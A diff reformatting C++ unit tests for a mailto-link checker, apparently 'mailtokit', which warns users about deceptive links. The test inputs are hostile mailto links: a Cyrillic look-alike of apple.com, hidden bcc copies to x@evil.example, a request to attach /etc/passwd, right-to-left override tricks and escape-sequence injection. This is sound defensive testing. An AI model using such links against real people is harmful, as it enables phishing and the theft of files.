@@ -35,12 +35,39 @@ bool has(std::string_view text, std::string_view what) { return text.find(what) 
 // own phrases, and every finding and warning code (preview.hpp, draft.hpp).
 void check_plain_words(const question& q) {
   const std::string t = front(q);
-  for (const char* bad :
-       {"to[", "cc[", "bcc", "Bcc", "BCC", "UTS", "RFC", "ASCII", "section", "SMTPUTF8", "hfield", "header:",
-        "hidden_recipients", "bidi_control", "mixed_direction", "mixed_script", "confusable", "mixed_numbers",
-        "hidden_overlay", "non_ascii_local_part", "invisible_character", "control_character", "invalid_address",
-        "display_name_mismatch", "long_body", "many_lines", "header_controls_removed", "attach=", "repaired:",
-        "U+2066", "\xE2\x81\xA6", "\xE2\x80\xAE", "\x1B"}) {
+  for (const char* bad : {"to[",
+                          "cc[",
+                          "bcc",
+                          "Bcc",
+                          "BCC",
+                          "UTS",
+                          "RFC",
+                          "ASCII",
+                          "section",
+                          "SMTPUTF8",
+                          "hfield",
+                          "header:",
+                          "hidden_recipients",
+                          "bidi_control",
+                          "mixed_direction",
+                          "mixed_script",
+                          "confusable",
+                          "mixed_numbers",
+                          "hidden_overlay",
+                          "non_ascii_local_part",
+                          "invisible_character",
+                          "control_character",
+                          "invalid_address",
+                          "display_name_mismatch",
+                          "long_body",
+                          "many_lines",
+                          "header_controls_removed",
+                          "attach=",
+                          "repaired:",
+                          "U+2066",
+                          "\xE2\x81\xA6",
+                          "\xE2\x80\xAE",
+                          "\x1B"}) {
     INFO(t);
     CHECK_FALSE(has(t, bad));
   }
@@ -56,7 +83,8 @@ std::size_t lines_before_details(const question& q) {
   return n;
 }
 
-const std::string issue_link = "mailto:admin@%D0%B0pple.com?bcc=x@evil.example&subject=Invoice&attach=%2Fetc%2Fpasswd";
+const std::string issue_link =
+    "mailto:admin@%D0%B0pple.com?bcc=x@evil.example&subject=Invoice&attach=%2Fetc%2Fpasswd";
 
 }  // namespace
 
@@ -66,7 +94,8 @@ TEST_CASE("the issue's link: the look-alike first, named and marked; Cancel is t
   CHECK(q.headline == "admin@\xD0\xB0pple.com is not apple.com");
   REQUIRE(q.findings.size() == 3);
   CHECK(q.findings[0] ==
-        "In admin@[\xD0\xB0]pple.com, the letter in brackets is the Cyrillic letter \xD0\xB0, not the Latin letter a. "
+        "In admin@[\xD0\xB0]pple.com, the letter in brackets is the Cyrillic letter \xD0\xB0, not the Latin "
+        "letter a. "
         "Its real name is admin@xn--pple-43d.com.");
   CHECK(q.findings[1] == "x@evil.example would get the message, and the other recipients would not know.");
   CHECK(q.findings[2] == "mailtokit removed a request to attach /etc/passwd: a link may never attach files.");
@@ -81,7 +110,8 @@ TEST_CASE("the issue's link: the look-alike first, named and marked; Cancel is t
   CHECK(q.choices[0] == "Cancel: nothing is opened.");
   CHECK(q.choices[1] ==
         "Open without the hidden copy: your mail program gets the message without x@evil.example.");
-  CHECK(q.choices[2] == "Open as it is: your mail program gets the message with the hidden copy to x@evil.example.");
+  CHECK(q.choices[2] ==
+        "Open as it is: your mail program gets the message with the hidden copy to x@evil.example.");
   check_plain_words(q);
   // The details keep the precise form, one step away.
   CHECK(has(q.details, "ASCII form: admin@xn--pple-43d.com"));
@@ -107,23 +137,27 @@ TEST_CASE("a hidden copy alone: named in the headline, and removing it is the de
   CHECK(ask("mailto:a@example.org?bcc=x@evil.example&subject=%E2%80%AE").safe == choice::cancel);
   CHECK(ask("mailto:not%20an%20address?bcc=x@evil.example").safe == choice::cancel);
   // Many: counted, three named.
-  const auto many = ask("mailto:a@example.org?bcc=1@x.example,2@x.example,3@x.example,4@x.example,5@x.example");
-  CHECK(many.headline ==
-        "This link would send hidden copies to 5 addresses: 1@x.example, 2@x.example, 3@x.example and 2 more");
+  const auto many =
+      ask("mailto:a@example.org?bcc=1@x.example,2@x.example,3@x.example,4@x.example,5@x.example");
+  CHECK(
+      many.headline ==
+      "This link would send hidden copies to 5 addresses: 1@x.example, 2@x.example, 3@x.example and 2 more");
   CHECK(many.buttons[0].label == "Open without the hidden copies");
   CHECK(many.safe == choice::open_without_bcc);
 }
 
 TEST_CASE("three findings fit on one screen; the worst comes first", "[question]") {
-  const auto q = ask(
-      "mailto:admin@%D0%B0pple.com?bcc=x@evil.example&subject=Invoice%20%E2%80%AEfdp.exe&attach=%2Fetc%2Fpasswd"
-      "&from=boss@example.com",
-      {"aerc shows the addresses percent-encoded"});
+  const auto q =
+      ask("mailto:admin@%D0%B0pple.com?bcc=x@evil.example&subject=Invoice%20%E2%80%AEfdp.exe&attach=%2Fetc%"
+          "2Fpasswd"
+          "&from=boss@example.com",
+          {"aerc shows the addresses percent-encoded"});
   CHECK(q.headline == "admin@\xD0\xB0pple.com is not apple.com");
   REQUIRE(q.findings.size() >= 5);
   CHECK(has(q.findings[1], "x@evil.example"));
-  CHECK(q.findings[2] == "The subject contains invisible characters that change the order of its text: "
-                         "Invoice <U+202E>fdp.exe.");
+  CHECK(q.findings[2] ==
+        "The subject contains invisible characters that change the order of its text: "
+        "Invoice <U+202E>fdp.exe.");
   CHECK(has(q.findings[4], "\"from\""));
   check_plain_words(q);
   CHECK(lines_before_details(q) <= 12);
@@ -137,7 +171,8 @@ TEST_CASE("three findings fit on one screen; the worst comes first", "[question]
 TEST_CASE("each kind of finding has its own plain headline", "[question]") {
   const auto name = ask("mailto:%22boss@example.com%22%20%3Cx@evil.example%3E");
   CHECK(name.headline == "The name boss@example.com hides the real address x@evil.example");
-  CHECK(name.findings.at(0) == "Your mail program may show boss@example.com, but the message would go to x@evil.example.");
+  CHECK(name.findings.at(0) ==
+        "Your mail program may show boss@example.com, but the message would go to x@evil.example.");
   const auto invisible = ask("mailto:a@ex%E2%80%8Bample.com");
   CHECK(invisible.headline == "The address a@ex<U+200B>ample.com contains invisible characters");
   CHECK(invisible.findings.size() == 1);  // not named again as invalid
@@ -146,7 +181,8 @@ TEST_CASE("each kind of finding has its own plain headline", "[question]") {
   const auto local = ask("mailto:p%D0%B0yp%CE%BFl@example.com");
   CHECK(local.headline == "p\xD0\xB0yp\xCE\xBFl@example.com is not paypol@example.com");
   CHECK(local.findings.at(0) ==
-        "In p[\xD0\xB0]yp[\xCE\xBF]l@example.com, the 2 letters in brackets are not what they seem: \xD0\xB0 from the "
+        "In p[\xD0\xB0]yp[\xCE\xBF]l@example.com, the 2 letters in brackets are not what they seem: \xD0\xB0 "
+        "from the "
         "Cyrillic alphabet looks like a; \xCE\xBF from the Greek alphabet looks like o.");
   const auto zhe = ask("mailto:a@ex%D0%B6mple.com");
   CHECK(zhe.headline == "The address a@ex\xD0\xB6mple.com mixes letters from different alphabets");
@@ -173,7 +209,8 @@ TEST_CASE("hostile text cannot change or swamp the question", "[question]") {
   std::string subject = "%3Cb%3Ebold%3C%2Fb%3E%E2%80%AE%1B%5B31m";
   for (int i = 0; i < 3000; ++i) subject += "A";
   std::string hidden;
-  for (int i = 0; i < 6; ++i) hidden += (i ? "," : "") + std::string("h") + std::to_string(i) + "@evil.example";
+  for (int i = 0; i < 6; ++i)
+    hidden += (i ? "," : "") + std::string("h") + std::to_string(i) + "@evil.example";
   const auto q = ask("mailto:" + to + "?subject=" + subject + "&bcc=" + hidden);
   const std::string t = question_plain_text(q);
   CHECK(utf8::validate(t));
